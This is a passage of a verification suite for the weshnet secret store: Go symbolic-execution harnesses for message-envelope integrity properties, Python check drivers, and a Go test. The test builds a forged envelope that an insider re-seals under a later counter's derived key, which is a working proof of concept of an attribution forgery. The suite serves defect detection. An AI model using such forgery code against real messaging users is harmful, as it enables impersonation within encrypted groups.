            c = I.fork_bool(c, 'ctx-cancelled')
        return Iface(-20, Native('ctx', cancelled=c, as_iface=True))

    I.intrinsics['verif_ctx'] = v_ctx

    def v_cancel_ctx(I, args, ins):
        n = Native('ctx', cancelled=False, as_iface=True)

        def cancel(I2, a2):
            n.cancelled = True
            return None
        return (Iface(-20, n), PyFunc(cancel))

    I.intrinsics.setdefault('verif_cancelCtx', v_cancel_ctx)
    CANCELED = Iface(-1, Native('sentinel', name='context.Canceled'))
    I.methods[('ctx', 'Err')] = lambda I, a, ins: CANCELED if a[0].cancelled else None
    I.methods[('ctx', 'Done')] = lambda I, a, ins: Native('donechan', closed=a[0].cancelled)
    I.methods[('ctx', 'Value')] = lambda I, a, ins: None
    I.globals_init['context.Canceled'] = lambda I, n: CANCELED
