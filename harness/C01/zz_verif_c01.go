package secretstore

import (
	"google.golang.org/protobuf/proto"

	"berty.tech/weshnet/v2/pkg/protocoltypes"
)

// VerifC01RoundTrip: a payload sealed by a device opens at a member holding its chain key to exactly the
// original payload, attributed to the sealing device and counter (sender chain state: free counter).
func VerifC01RoundTrip(gt int) {
	ctx := verif_background()
	snd := verifNewStore("snd", 2)
	rcv := verifNewStore("rcv", 2)
	g := verifGroup(snd, rcv, gt)
	gpk, err := g.GetPubKey()
	verif_assume(err == nil)

	// arbitrary sender chain state (ck, n): installed before the announcement is made
	sndMD0, err := snd.deviceKeystore.memberDeviceForGroup(g)
	verif_assume(err == nil)
	n := verif_anyUint64("n")
	verif_assume(n < 0xfffffffffffffff0) // the counter wrap is the code's own FIXME: outside the claim
	ck := make([]byte, 32)
	_, _ = crandRead(ck)
	verif_assume(snd.putDeviceChainKey(ctx, gpk, sndMD0.Device(), &protocoltypes.DeviceChainKey{ChainKey: ck, Counter: n}) == nil)

	sndMD, rcvMD := verifLink(ctx, snd, rcv, g)

	plain := verif_anyBytes("plaintext")
	payload, err := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: plain})
	verif_assume(err == nil)

	env, err := snd.SealEnvelope(ctx, g, payload)
	verif_assert(err == nil, "C01.rt: seal succeeds")
	if err != nil {
		return
	}
	e, h, err := rcv.OpenEnvelopeHeaders(env, g)
	verif_assert(err == nil, "C01.rt: headers open under the group secret")
	if err != nil {
		return
	}
	devRaw, _ := sndMD.Device().Raw()
	verif_assert(verif_bytesEq(h.DevicePk, devRaw), "C01.rt: attributed to the sealing device")
	verif_assert(h.Counter == n+1, "C01.rt: attributed to the sender's next counter")
	msg, err := rcv.OpenEnvelopePayload(ctx, e, h, gpk, rcvMD.Device(), verif_anyCid("cid"))
	verif_assert(err == nil, "C01.rt: payload opens at a member holding the chain key")
	if err != nil {
		return
	}
	verif_assert(verif_bytesEq(msg.Plaintext, plain), "C01.rt: opened payload is exactly the original")
	verif_reach("C01.rt.ok")
}

func crandRead(b []byte) (int, error) { return verifRand(b) }

// VerifC01Insider: an envelope forged by a member that knows the group secret and the sender's chain key
// (everything except the sender's device signing key) is never delivered as the honest device's with content
// or attribution the device did not produce.
func VerifC01Insider(gt int) {
	ctx := verif_background()
	snd := verifNewStore("snd", 2)
	rcv := verifNewStore("rcv", 2)
	g := verifGroup(snd, rcv, gt)
	gpk, err := g.GetPubKey()
	verif_assume(err == nil)
	sndMD, rcvMD := verifLink(ctx, snd, rcv, g)
	devRaw, _ := sndMD.Device().Raw()

	p1 := verif_anyBytesNonNil("p1")
	p2 := verif_anyBytesNonNil("p2")
	pay1, _ := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: p1})
	pay2, _ := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: p2})
	_, err = snd.SealEnvelope(ctx, g, pay1) // counter 1
	verif_assume(err == nil)
	_, err = snd.SealEnvelope(ctx, g, pay2) // counter 2
	verif_assume(err == nil)

	// EUF-CMA holds for the device signing key only; group secret, chain key, message keys are adversary-known
	verif_honestKey(sndMD.device)

	data := verif_anyBytesNonNil("adversarial-envelope")
	e, h, err := rcv.OpenEnvelopeHeaders(data, g)
	if err != nil {
		return
	}
	msg, err := rcv.OpenEnvelopePayload(ctx, e, h, gpk, rcvMD.Device(), verif_anyCid("cid"))
	if err != nil {
		return
	}
	verif_reach("C01.insider.accepted")
	if verif_bytesEq(h.DevicePk, devRaw) {
		is1 := verif_bytesEq(msg.Plaintext, p1)
		is2 := verif_bytesEq(msg.Plaintext, p2)
		verif_assert(is1 || is2, "C01.A1: content delivered as the device's is one the device signed")
		if is1 && !is2 {
			verif_assert(h.Counter == 1, "C01.A2: delivered with the counter the device sealed it with")
		}
		if is2 && !is1 {
			verif_assert(h.Counter == 2, "C01.A2: delivered with the counter the device sealed it with")
		}
	}
}

// VerifC01InsiderRetry: the same forged entry (same bytes, same CID) opened a second time -- the message
// store re-queues entries that failed to open and replays them, ListEvents re-opens every entry -- is
// still never delivered as the honest device's with content the device did not sign. mid=1: an honest
// envelope of the same device is opened in between (what triggers the store's retry).
func VerifC01InsiderRetry(gt int, mid int) {
	ctx := verif_background()
	snd := verifNewStore("snd", 2)
	rcv := verifNewStore("rcv", 2)
	g := verifGroup(snd, rcv, gt)
	gpk, err := g.GetPubKey()
	verif_assume(err == nil)
	sndMD, rcvMD := verifLink(ctx, snd, rcv, g)
	devRaw, _ := sndMD.Device().Raw()

	p1 := verif_anyBytesNonNil("p1")
	p2 := verif_anyBytesNonNil("p2")
	pay1, _ := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: p1})
	pay2, _ := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: p2})
	_, err = snd.SealEnvelope(ctx, g, pay1) // counter 1
	verif_assume(err == nil)
	env2, err := snd.SealEnvelope(ctx, g, pay2) // counter 2
	verif_assume(err == nil)
	verif_honestKey(sndMD.device)

	data := verif_anyBytesNonNil("adversarial-envelope")
	c := verif_anyCid("cid")
	e, h, err := rcv.OpenEnvelopeHeaders(data, g)
	if err != nil {
		return
	}
	_, err1 := rcv.OpenEnvelopePayload(ctx, e, h, gpk, rcvMD.Device(), c)
	if mid == 1 {
		e2, h2, err := rcv.OpenEnvelopeHeaders(env2, g)
		verif_assume(err == nil)
		c2 := verif_anyCid("cid2")
		verif_assume(!c.Equals(c2)) // content addressing: another entry has another CID
		m2, err := rcv.OpenEnvelopePayload(ctx, e2, h2, gpk, rcvMD.Device(), c2)
		if err == nil {
			verif_assert(verif_bytesEq(m2.Plaintext, p2), "C01.retry: the honest message in between opens to its payload")
		}
	}
	// second open of the same entry
	e, h, err = rcv.OpenEnvelopeHeaders(data, g)
	if err != nil {
		return
	}
	msg, err := rcv.OpenEnvelopePayload(ctx, e, h, gpk, rcvMD.Device(), c)
	if err != nil {
		return
	}
	verif_reach("C01.retry.accepted")
	if err1 != nil {
		verif_reach("C01.retry.accepted-after-reject")
	}
	if verif_bytesEq(h.DevicePk, devRaw) {
		is1 := verif_bytesEq(msg.Plaintext, p1)
		is2 := verif_bytesEq(msg.Plaintext, p2)
		verif_assert(is1 || is2, "C01.A1r: content delivered on a re-open as the device's is one the device signed")
	}
}

// VerifC01InsiderPush: before presenting the forged entry the insider makes the receiver open a push payload (below).
// Whatever that leaves behind, an entry delivered afterwards as the honest device's still carries content the device signed.
func VerifC01InsiderPush(gt int) {
	ctx := verif_background()
	snd := verifNewStore("snd", 2)
	rcv := verifNewStore("rcv", 2)
	g := verifGroup(snd, rcv, gt)
	gpk, err := g.GetPubKey()
	verif_assume(err == nil)
	verif_assume(rcv.PutGroup(ctx, g) == nil)
	sndMD, rcvMD := verifLink(ctx, snd, rcv, g)
	devRaw, _ := sndMD.Device().Raw()
	p1 := verif_anyBytesNonNil("p1")
	pay1, _ := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: p1})
	env1, err := snd.SealEnvelope(ctx, g, pay1) // counter 1
	verif_assume(err == nil)
	verif_honestKey(sndMD.device)

	// the insider relays the device's GENUINE envelope as a push payload, with an entry identifier of its own choosing
	// (the identifier inside a push payload is not authenticated)
	e1, h1, err := rcv.OpenEnvelopeHeaders(env1, g)
	verif_assume(err == nil)
	c := verif_anyCid("cid")
	oos, err := snd.SealOutOfStoreMessageEnvelope(c, e1, h1, g)
	verif_assume(err == nil)
	push, err := proto.Marshal(oos)
	verif_assume(err == nil)
	if _, _, _, _, perr := rcv.OpenOutOfStoreMessage(ctx, push); perr == nil {
		verif_reach("C01.push.accepted")
	}
	data := verif_anyBytesNonNil("adversarial-envelope")
	e, h, err := rcv.OpenEnvelopeHeaders(data, g)
	if err != nil {
		return
	}
	msg, err := rcv.OpenEnvelopePayload(ctx, e, h, gpk, rcvMD.Device(), c)
	if err != nil {
		return
	}
	verif_reach("C01.insiderpush.accepted")
	if verif_bytesEq(h.DevicePk, devRaw) {
		verif_assert(verif_bytesEq(msg.Plaintext, p1), "C01.A1p: content delivered as the device's after an adversarial push is one the device signed")
	}
}

// VerifC01Outsider: without the group secret / message keys (INT-CTXT for both), whatever is accepted is
// bit-for-bit an honest envelope: every flip and every field substitution is rejected.
func VerifC01Outsider(gt int) {
	ctx := verif_background()
	snd := verifNewStore("snd", 2)
	rcv := verifNewStore("rcv", 2)
	g := verifGroup(snd, rcv, gt)
	gpk, err := g.GetPubKey()
	verif_assume(err == nil)
	sndMD, rcvMD := verifLink(ctx, snd, rcv, g)
	verif_honestKey(sndMD.device)
	verif_secretSymKey(g.GetSecret())

	p1 := verif_anyBytesNonNil("p1")
	pay1, _ := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: p1})
	env1, err := snd.SealEnvelope(ctx, g, pay1)
	verif_assume(err == nil)

	data := verif_anyBytesNonNil("adversarial-envelope")
	e, h, err := rcv.OpenEnvelopeHeaders(data, g)
	if err != nil {
		return
	}
	he, hh, err := rcv.OpenEnvelopeHeaders(env1, g)
	verif_assume(err == nil)
	verif_assert(verif_bytesEq(e.MessageHeaders, he.MessageHeaders) && verif_bytesEq(e.Nonce, he.Nonce),
		"C01.outsider: accepted headers are bit-for-bit the honest header box and nonce")
	verif_assert(h.Counter == hh.Counter && verif_bytesEq(h.DevicePk, hh.DevicePk) && verif_bytesEq(h.Sig, hh.Sig),
		"C01.outsider: header fields are the honest ones")
	msg, err := rcv.OpenEnvelopePayload(ctx, e, h, gpk, rcvMD.Device(), verif_anyCid("cid"))
	if err != nil {
		return
	}
	verif_assert(verif_bytesEq(msg.Plaintext, p1), "C01.outsider: only the honest payload is ever delivered")
	verif_reach("C01.outsider.accepted")
}

// VerifC01OtherGroup: an honest envelope of group G1 presented in the context of another group G2 is rejected.
func VerifC01OtherGroup() {
	ctx := verif_background()
	snd := verifNewStore("snd", 2)
	rcv := verifNewStore("rcv", 2)
	g1 := verifGroup(snd, rcv, 3)
	g2 := verifGroup(snd, rcv, 3)
	verifLink(ctx, snd, rcv, g1)
	verifLink(ctx, snd, rcv, g2)
	p1 := verif_anyBytesNonNil("p1")
	pay1, _ := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: p1})
	env1, err := snd.SealEnvelope(ctx, g1, pay1)
	verif_assume(err == nil)
	_, _, err = rcv.OpenEnvelopeHeaders(env1, g2)
	verif_assert(err != nil, "C01.othergroup: headers of G1 do not open under G2's secret")
	// even with G1's headers, the payload does not open in G2's key space
	e, h, err := rcv.OpenEnvelopeHeaders(env1, g1)
	verif_assume(err == nil)
	g2pk, _ := g2.GetPubKey()
	rcvMD, _ := rcv.deviceKeystore.memberDeviceForGroup(g2)
	_, err = rcv.OpenEnvelopePayload(ctx, e, h, g2pk, rcvMD.Device(), verif_anyCid("cid"))
	verif_assert(err != nil, "C01.othergroup: payload of G1 does not open with G2's keys")
	verif_reach("C01.othergroup.ok")
}

// VerifC01Witness: vacuity guard -- an adversarial envelope CAN be accepted (replay of an honest one).
func VerifC01Witness() {
	ctx := verif_background()
	snd := verifNewStore("snd", 2)
	rcv := verifNewStore("rcv", 2)
	g := verifGroup(snd, rcv, 3)
	gpk, _ := g.GetPubKey()
	sndMD, rcvMD := verifLink(ctx, snd, rcv, g)
	verif_honestKey(sndMD.device)
	p1 := verif_anyBytesNonNil("p1")
	pay1, _ := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: p1})
	_, err := snd.SealEnvelope(ctx, g, pay1)
	verif_assume(err == nil)
	data := verif_anyBytesNonNil("adversarial-envelope")
	e, h, err := rcv.OpenEnvelopeHeaders(data, g)
	if err != nil {
		return
	}
	_, err = rcv.OpenEnvelopePayload(ctx, e, h, gpk, rcvMD.Device(), verif_anyCid("cid"))
	if err == nil {
		verif_assert(false, "C01.witness: reachable")
	}
}
