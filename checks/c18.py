#!/usr/bin/env python3
"""C18: length-delimited framing round-trips any message sequence and enforces its bound."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *
from wesym.contracts import protomsg


def main():
    t = tier()
    chk = Check('C18', [MOD + '/pkg/protoio', 'bufio', 'io', 'encoding/binary'], 'pkg/protoio', ['C18/zz_verif_c18.go'],
                installers=[protomsg.install], init_pkgs=['io', 'bufio', 'encoding/binary'], prelude_pkgname='protoio')
    P = MOD + '/pkg/protoio.'
    chk.load([P + n for n in ('VerifC18RoundTrip', 'VerifC18Limit', 'VerifC18Arbitrary', 'VerifC18LongHeader', 'VerifC18Witness')])
    jobs = []
    L = 2 if t == 'quick' else 3
    for kind in (0, 1, 2):
        for l1 in range(0, L + 1):
            jobs.append(Job(P + 'VerifC18RoundTrip', (kind, 1, l1, 0)))
            for l2 in range(0, L + 1):
                jobs.append(Job(P + 'VerifC18RoundTrip', (kind, 2, l1, l2)))
        for mx in range(0, 3 if t == 'quick' else 5):
            for l1 in range(0, min(mx, 2) + 1):
                jobs.append(Job(P + 'VerifC18Limit', (kind, mx, l1)))
    N = 5 if t == 'quick' else 7
    for n in range(0, N + 1):
        for mx in ((2,) if t == 'quick' else (0, 2, 3)):
            jobs.append(Job(P + 'VerifC18Arbitrary', (0, n, mx), cfg={'unwind': 16}))
    for n in range(0, (7 if t == 'quick' else 10) + 1):
        for kind in (1, 2):
            jobs.append(Job(P + 'VerifC18Arbitrary', (kind, n, 2), cfg={'unwind': 16}))
    for n in ((10, 11) if t == 'quick' else (9, 10, 11, 12)):
        jobs.append(Job(P + 'VerifC18LongHeader', (n, 2), cfg={'unwind': 16}))
    jobs.append(Job(P + 'VerifC18Witness', (), witness=True))
    res = chk.run_jobs(jobs)
    finish(chk, res, t,
           explanation='Bounded symbolic execution of the real varint/uint32 delimited writers and readers, together with the '
                       'real bufio.Reader, io.ReadFull/ReadAtLeast, encoding/binary.PutUvarint/ReadUvarint/ByteOrder bodies. '
                       'Message bodies and the raw stream are vectors of free bytes; every Read of the underlying stream returns a '
                       'free number of bytes (chunking is a solver variable); allocation sizes are recorded at MakeSlice. '
                       'Oracles: exact round trip incl. buffer reuse, refusal of limit+1 without allocating beyond the limit, '
                       'and a differential reference decoder for arbitrary streams (no panic on any path).',
           bounds={'frames': '1..2', 'body_len': '0..%d' % L, 'arbitrary_stream_len': '0..%d (varint) / 0..%d (uint32)' % (N, 7 if t == 'quick' else 10),
                   'maxSize': '0..4 (small so that every admissible length is enumerated by the solver)', 'chunking': 'every split, as free integers',
                   'outside': 'maxSize 2048 with long frames; gogo MarshalTo fast path (no message type of the repository implements it); 32-bit int'},
           assumptions=['proto.Marshal/Unmarshal copy the body (contract)', '64-bit int'],
           trusted=['go/ssa lowering', 'wesym interpreter', 'z3 5.1.0; cvc5 1.0 / z3 4.8.12 cross-check'])


if __name__ == '__main__':
    main()
