package secretstore

import (
	"bytes"
	"context"
	"testing"

	"github.com/ipfs/go-cid"
	"golang.org/x/crypto/nacl/secretbox"
	"google.golang.org/protobuf/proto"

	"berty.tech/weshnet/v2/pkg/cryptoutil"
	"berty.tech/weshnet/v2/pkg/protocoltypes"
)

// C01/A2: the device signature covers the clear payload only. A fellow member who knows the group secret and the
// sender's chain key (but not its signing key) re-seals a payload the device signed for counter 1 under the
// derived key of counter 2; the receiver delivers it attributed to counter 2.
func TestC01A2_InsiderResealAtOtherCounter(t *testing.T) {
	ctx := context.Background()
	snd, err := newInMemSecretStore(&NewSecretStoreOptions{PreComputedKeysCount: 5})
	if err != nil {
		t.Fatal(err)
	}
	rcv, err := newInMemSecretStore(&NewSecretStoreOptions{PreComputedKeysCount: 5})
	if err != nil {
		t.Fatal(err)
	}
	g, _, err := protocoltypes.NewGroupMultiMember()
	if err != nil {
		t.Fatal(err)
	}
	sndMD, _ := snd.deviceKeystore.memberDeviceForGroup(g)
	rcvMD, _ := rcv.deviceKeystore.memberDeviceForGroup(g)
	enc, err := snd.GetShareableChainKey(ctx, g, rcvMD.Member())
	if err != nil {
		t.Fatal(err)
	}
	if err := rcv.RegisterChainKey(ctx, g, sndMD.Device(), enc); err != nil {
		t.Fatal(err)
	}
	gpk, _ := g.GetPubKey()
	// what every member that received the announcement knows: the chain key at counter 0
	ck0, err := snd.getDeviceChainKeyForGroupAndDevice(ctx, gpk, sndMD.Device())
	if err != nil {
		t.Fatal(err)
	}
	payload, _ := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: []byte("signed for counter 1")})
	env1, err := snd.SealEnvelope(ctx, g, payload) // counter 1
	if err != nil {
		t.Fatal(err)
	}
	// --- insider: group secret + chain key only
	_, h1, err := rcv.OpenEnvelopeHeaders(env1, g)
	if err != nil {
		t.Fatal(err)
	}
	ck1, _, _ := deriveNextKeys(ck0.ChainKey, nil, g.GetPublicKey())
	_, mk2, _ := deriveNextKeys(ck1, nil, g.GetPublicKey())
	forgedPayload := secretbox.Seal(nil, payload, uint64AsNonce(2), (*[32]byte)(&mk2))
	hdr, _ := proto.Marshal(&protocoltypes.MessageHeaders{Counter: 2, DevicePk: h1.DevicePk, Sig: h1.Sig})
	nonce, _ := cryptoutil.GenerateNonce()
	forged, _ := proto.Marshal(&protocoltypes.MessageEnvelope{
		MessageHeaders: secretbox.Seal(nil, hdr, nonce, g.GetSharedSecret()),
		Message:        forgedPayload,
		Nonce:          nonce[:],
	})
	// --- receiver
	e, h, err := rcv.OpenEnvelopeHeaders(forged, g)
	if err != nil {
		t.Logf("forged headers rejected: %v", err)
		return
	}
	msg, err := rcv.OpenEnvelopePayload(ctx, e, h, gpk, rcvMD.Device(), cid.Undef)
	if err != nil {
		t.Logf("forged payload rejected: %v", err)
		return
	}
	if h.Counter == 2 && bytes.Equal(msg.Plaintext, []byte("signed for counter 1")) {
		t.Errorf("DEFECT C01/A2: payload signed by the device for counter 1 delivered as its message with counter %d", h.Counter)
	}
}
