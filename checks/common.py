"""Driver shared by all property checks: front end, exploration, cross-check, evidence, findings, exit codes."""
import os, sys, json, time, re, subprocess, tempfile, shutil, hashlib, traceback, multiprocessing, threading

# Allocator settings (measured: 25-40 % less wall time, most of it system time spent in mmap/munmap churn and page
# faults of the per-path z3 objects): they are read by glibc / CPython at process start, so the check re-executes itself once.
if os.environ.get('WESYM_ALLOC') != '1' and not sys.flags.interactive:
    env = dict(os.environ, WESYM_ALLOC='1', PYTHONMALLOC='malloc', MALLOC_MMAP_THRESHOLD_='1073741824',
               MALLOC_TRIM_THRESHOLD_='2147483648', MALLOC_TOP_PAD_='268435456')
    try:
        os.execve(sys.executable, [sys.executable] + sys.argv, env)
    except OSError:
        pass

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, os.path.join(ROOT, 'engine'))
threading.stack_size(512 * 1024 * 1024)

import z3  # noqa: E402
from wesym import prog as wprog  # noqa: E402
from wesym.interp import Interp  # noqa: E402
from wesym.explorer import explore  # noqa: E402
from wesym.contracts import base as cbase  # noqa: E402

REPO = wprog.REPO
MOD = 'berty.tech/weshnet/v2'
# VERIF_OUT (with VERIF_REPO) is used only when a seeded change is tried in a scratch worktree, so that such a run
# does not overwrite the evidence of /repo; registered commands never set either variable.
_OUT = os.environ.get('VERIF_OUT', ROOT)
EVIDENCE_DIR = os.path.join(_OUT, 'evidence')
REPLAY_DIR = os.path.join(_OUT, 'replays')
KNOWN = os.path.join(ROOT, 'known_findings.json')


def tier():
    t = os.environ.get('VERIF_TIER', '')
    for a in sys.argv[1:]:
        if a in ('quick', 'thorough'):
            t = a
        if a.startswith('--tier='):
            t = a.split('=', 1)[1]
    return t if t in ('quick', 'thorough') else 'quick'


def seed():
    try:
        return int(os.environ.get('VERIF_SEED', '0'))
    except ValueError:
        return 0


class Job:
    """one exploration: entry function + concrete arguments + expectations"""

    def __init__(self, entry, args=(), label=None, witness=False, cfg=None, max_paths=20000, expect_panic=None,
                 time_budget=None, installers=(), shard=None):
        self.entry = entry
        self.shard = shard
        self.args = tuple(args)
        self.label = label or ('%s(%s)' % (entry.rsplit('.', 1)[-1], ','.join(map(str, args))))
        self.witness = witness  # vacuity twin: MUST produce a violation
        self.cfg = cfg or {}
        self.max_paths = max_paths
        self.expect_panic = expect_panic
        self.time_budget = time_budget
        self.installers = installers


class Check:
    def __init__(self, pid, packages, harness_pkg_dir, harness_files, installers=(), init_pkgs=(), prelude_pkgname=None,
                 extra_overlays=None, bodies=()):
        """harness_pkg_dir: directory under REPO of the package under test ('' = root)"""
        self.pid = pid
        self.packages = packages
        self.pkgdir = harness_pkg_dir
        self.files = harness_files
        self.installers = list(installers)
        self.init_pkgs = list(init_pkgs)
        self.pkgname = prelude_pkgname
        self.extra_overlays = extra_overlays or {}
        self.bodies = bodies
        self.prog = None
        self.t0 = time.time()
        self.workdir = tempfile.mkdtemp(prefix='verif-%s-' % pid)
        self.assumptions = []
        self.bounds = {}
        self.trusted = []

    def cleanup(self):
        shutil.rmtree(self.workdir, ignore_errors=True)

    # ------------------------------------------------------------------ front end
    def overlays(self):
        ov = {}
        hdir = os.path.join(ROOT, 'harness')
        if self.pkgname:
            tmpl = open(os.path.join(hdir, 'common', 'prelude.go.tmpl')).read().replace('PKGNAME', self.pkgname)
            p = os.path.join(self.workdir, 'zz_verif_prelude.go')
            with open(p, 'w') as f:
                f.write(tmpl)
            ov[os.path.join(REPO, self.pkgdir, 'zz_verif_prelude.go')] = p
        for fpath in self.files:
            real = os.path.join(hdir, fpath)
            ov[os.path.join(REPO, self.pkgdir, os.path.basename(fpath))] = real
        for v, r in self.extra_overlays.items():
            ov[v] = r
        return ov

    def load(self, entries):
        try:
            self.prog = wprog.load_program(self.packages, entries, self.overlays(), bodies=self.bodies, workdir=self.workdir)
        except wprog.FrontEndError as ex:
            # the harness no longer compiles against the tree (or the tree itself does not compile): never a pass
            print('INCONCLUSIVE property=%s front end failed: %s' % (self.pid, str(ex)[-1500:].replace('\n', ' | ')))
            self.cleanup()
            sys.exit(2)
        return self.prog

    def new_interp(self, cfg=None, installers=()):
        I = Interp(self.prog, config=cfg)
        cbase.install(I)
        for inst in list(self.installers) + list(installers):
            inst(I)
        if self.init_pkgs:
            I.run_inits(self.init_pkgs)
        return I

    # ------------------------------------------------------------------ running
    def run_job(self, job):
        try:
            I = self.new_interp(dict(job.cfg, keep_smt2=True), job.installers)
            res = explore(I, job.entry, job.args, max_paths=job.max_paths, expect_panic=job.expect_panic,
                          time_budget=job.time_budget, shard=job.shard)
            out = {
                'label': job.label, 'entry': job.entry, 'args': list(job.args), 'witness': job.witness,
                'paths': res.paths, 'completed': res.completed, 'ended': res.ended, 'obligations': res.obligations,
                'discharged': res.discharged, 'trivial': res.trivial, 'unknown': res.unknown,
                'violations': [{k: v for k, v in vi.items() if k not in ('zmodel', 'smt2')} for vi in res.violations],
                'inconclusive': res.inconclusive, 'unwind': res.unwind_failures, 'wall': res.wall,
                'queries': I.stats.queries, 'solver_s': I.stats.solver_s, 'samples': res.samples, 'notes': res.notes[:20],
                'reached': res.reached, 'funcs': dict(I.funcs_executed), 'contracts': sorted(I.contracts_used),
                'smt2': res.smt2, 'init_error': getattr(I, 'init_error', None),
            }
            return out
        except Exception as ex:  # engine bug: never a pass
            return {'label': job.label, 'entry': job.entry, 'args': list(job.args), 'witness': job.witness, 'paths': 0,
                    'completed': 0, 'ended': 0, 'obligations': 0, 'discharged': 0, 'trivial': 0, 'unknown': 0,
                    'violations': [], 'inconclusive': ['engine exception: %s\n%s' % (ex, traceback.format_exc()[-1500:])],
                    'unwind': [], 'wall': 0, 'queries': 0, 'solver_s': 0, 'samples': [], 'notes': [], 'reached': {},
                    'funcs': {}, 'contracts': [], 'smt2': []}

    def run_jobs(self, jobs, procs=None):
        procs = procs or min(len(jobs), int(os.environ.get('VERIF_PROCS', '14')))
        if procs <= 1 or len(jobs) == 1:
            return [self._run_in_thread(j) for j in jobs]
        global _CHECK
        _CHECK = self
        ctx = multiprocessing.get_context('fork')
        with ctx.Pool(procs) as pool:
            return pool.map(_pool_run, jobs, chunksize=1)

    def _run_in_thread(self, job):
        box = {}

        def tgt():
            box['r'] = self.run_job(job)
        th = threading.Thread(target=tgt)
        th.start()
        th.join()
        return box['r']


_CHECK = None


def _pool_run(job):
    return _CHECK._run_in_thread(job)


# ---------------------------------------------------------------------- second-solver cross check
def cross_check(results, limit, workdir):
    """re-decide final obligation queries with cvc5 and z3 4.8.12 (one process each)"""
    qs = []
    for r in results:
        for (msg, status, text) in r.get('smt2', []):
            if text and status in ('discharged', 'violated'):
                qs.append((r['label'], msg, status, text))
    # spread the sample over jobs
    if len(qs) > limit:
        step = len(qs) / float(limit)
        qs = [qs[int(i * step)] for i in range(limit)]
    out = {'queries': len(qs), 'cvc5': {'agree': 0, 'disagree': 0, 'inconclusive': 0, 'seconds': 0.0},
           'z3-4.8.12': {'agree': 0, 'disagree': 0, 'inconclusive': 0, 'seconds': 0.0}, 'disagreements': []}
    if not qs:
        return out
    stream = []
    for (_, _, _, text) in qs:
        text = re.sub(r'\(set-info[^\n]*\n', '', text)
        stream.append('(reset)\n(set-option :produce-models false)\n' + text + '\n')
    data = ''.join(stream)
    path = os.path.join(workdir, 'cross.smt2')
    with open(path, 'w') as f:
        f.write(data)
    for name, cmd in (('cvc5', ['cvc5', '--incremental', '--tlimit-per=20000', path]),
                      ('z3-4.8.12', ['/usr/bin/z3', '-T:600', '-t:20000', path])):
        t0 = time.time()
        try:
            p = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, timeout=900)
            lines = [l.strip() for l in p.stdout.splitlines()]
        except Exception as ex:
            lines = ['(error "%s")' % ex]
        out[name]['seconds'] = round(time.time() - t0, 2)
        # split answers per query: each query yields exactly one sat/unsat/unknown line or an error
        answers = []
        cur_err = False
        for l in lines:
            if l.startswith('(error'):
                cur_err = True
            elif l in ('sat', 'unsat', 'unknown'):
                answers.append('error' if cur_err else l)
                cur_err = False
        if len(answers) != len(qs):
            out[name]['inconclusive'] = len(qs)
            out[name]['note'] = 'answer count %d != %d (%s)' % (len(answers), len(qs), ' | '.join(lines[:3]))
            continue
        for (lab, msg, status, _), a in zip(qs, answers):
            want = 'unsat' if status == 'discharged' else 'sat'
            if a == want:
                out[name]['agree'] += 1
            elif a in ('sat', 'unsat'):
                out[name]['disagree'] += 1
                out['disagreements'].append({'solver': name, 'job': lab, 'obligation': msg, 'z3-5.1': want, 'other': a})
            else:
                out[name]['inconclusive'] += 1
    return out


# ---------------------------------------------------------------------- findings
def load_known(pid):
    if not os.path.exists(KNOWN):
        return []
    with open(KNOWN) as f:
        d = json.load(f)
    return [k for k in d.get('known', []) if k['property'] == pid]


def match_known(v, known):
    """a violation is a listed finding iff its message matches the entry's assertion id and its classification predicate"""
    for k in known:
        if k.get('assertion') and k['assertion'] not in v.get('msg', ''):
            continue
        if k.get('job') and not re.search(k['job'], v.get('job', '')):
            continue
        if k.get('pos') and k['pos'] not in (v.get('pos') or ''):
            continue
        if k.get('gotrace') and not any(k['gotrace'] in f for f in v.get('gotrace', [])):
            continue
        items = (v.get('model') or {}).get('schedule', []) or []

        def hit(pat, line):
            # 're:<regex>' matches a schedule line by regular expression (used to name the FUNCTION an operation is in
            # rather than its line number, so that edits elsewhere in the file do not change the identification)
            return re.search(pat[3:], line) is not None if pat.startswith('re:') else pat in line
        if k.get('schedule_contains'):
            if not all(any(hit(x, l) for l in items) or (not x.startswith('re:') and x in ' '.join(items)) for x in k['schedule_contains']):
                continue
        if k.get('schedule_order'):
            # the listed steps occur in this order in the schedule
            pos, okk = 0, True
            for x in k['schedule_order']:
                nxt = next((i for i in range(pos, len(items)) if hit(x, items[i])), None)
                if nxt is None:
                    okk = False
                    break
                pos = nxt + 1
            if not okk:
                continue
        return k
    return None


# ---------------------------------------------------------------------- evidence + exit
def finish(check, results, tier_name, explanation, bounds, assumptions, trusted, replayer=None, cross_limit=None,
           extra=None):
    pid = check.pid
    os.makedirs(EVIDENCE_DIR, exist_ok=True)
    os.makedirs(REPLAY_DIR, exist_ok=True)
    known = load_known(pid)
    violations, known_hits, inconclusive, witness_fail = [], [], [], []
    for r in results:
        if r['witness']:
            if not r['violations']:
                witness_fail.append('vacuity witness %s did not reach its assert(false) (paths=%d, inconclusive=%s)' %
                                    (r['label'], r['paths'], r['inconclusive'][:1]))
            continue
        for v in r['violations']:
            v['job'] = r['label']
            k = match_known(v, known)
            if k:
                known_hits.append((k, v))
            else:
                violations.append(v)
        for m in r['inconclusive']:
            inconclusive.append('%s: %s' % (r['label'], m))
        for m in r['unwind']:
            inconclusive.append('%s: unwinding bound hit at %s' % (r['label'], m))
        if r['unknown']:
            inconclusive.append('%s: %d obligations undecided (solver unknown)' % (r['label'], r['unknown']))
    inconclusive += witness_fail
    cl = cross_limit if cross_limit is not None else (60 if tier_name == 'quick' else 400)
    cross = cross_check([r for r in results if not r['witness']], cl, check.workdir)
    for d in cross['disagreements']:
        inconclusive.append('solver disagreement: %s' % d)

    # native replay of violations
    reported = []
    # one report per (assertion, job entry): the first model of each class is enough to act on
    uniq, seen_cls = [], set()
    for v in violations:
